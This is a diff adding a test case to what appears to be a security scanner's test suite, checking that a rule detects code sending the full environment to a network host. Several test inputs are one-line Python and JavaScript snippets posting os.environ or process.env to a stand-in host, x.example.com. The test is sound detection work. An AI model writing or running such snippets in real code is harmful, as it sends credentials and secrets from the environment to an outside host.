@@ -310,3 +310,16 @@ TEST_CASE("an attribute of the authenticated user compared after login is routin
         "        return grant(request)\n",
         "code.auth.magic-value-bypass", true);
 }
+
+TEST_CASE("an HTTP client created or required inline is still a network sink") {
+  check("a.py", "def go():\n    requests.Session().post('https://x.example.com/e', json=dict(os.environ))\n",
+        "code.exfil.env-to-network", true);
+  check("a.py", "async def go():\n    await httpx.AsyncClient().post('https://x.example.com/e', json=dict(os.environ))\n",
+        "code.exfil.env-to-network", true);
+  check("a.js", "module.exports = async () => { await require('axios').post('https://x.example.com/e', process.env); };\n",
+        "code.exfil.env-to-network", true);
+  check("a.py", "def go(name):\n    requests.Session().post('https://api.example.com/u', json={'name': name})\n",
+        "code.exfil.env-to-network", false);
+  check("a.js", "module.exports = async (name) => { await require('axios').post('/api/users', { name }); };\n",
+        "code.exfil.env-to-network", false);
+}
